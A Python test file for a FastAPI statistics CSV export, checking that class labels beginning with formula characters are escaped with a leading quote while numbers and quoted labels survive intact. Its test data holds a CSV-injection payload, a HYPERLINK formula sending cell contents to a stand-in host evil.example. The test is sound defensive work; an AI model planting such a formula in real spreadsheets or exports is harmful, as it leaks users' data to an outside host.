"""statistics.csv: class labels a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.evaluation.helpers import BASE, create
from tests.helpers import Account

LABELS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "@SUM(1)",
    "\tx",
    "-1.5",
    'a "quoted", label',
]


def test_formula_labels_are_neutralised_and_numbers_kept(
    client: TestClient, owner: Account
) -> None:
    actual = LABELS * 2
    predicted = LABELS[1:] + LABELS[:1] + LABELS
    uid = create(client, owner, actual=actual, predicted=predicted)["uid"]
    response = client.get(f"{BASE}/{uid}/statistics.csv", headers=owner.headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    header = rows[0]
    assert header[0] == "Class"
    assert sorted(header[1:]) == sorted(
        ["'" + label if label[0] in "=+@\t" else label for label in LABELS]
    )
    assert "-1.5" in header  # a number stays a number
    every_cell = [cell for row in rows for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert all(len(row) == len(header) for row in rows)  # the quoted label kept the columns
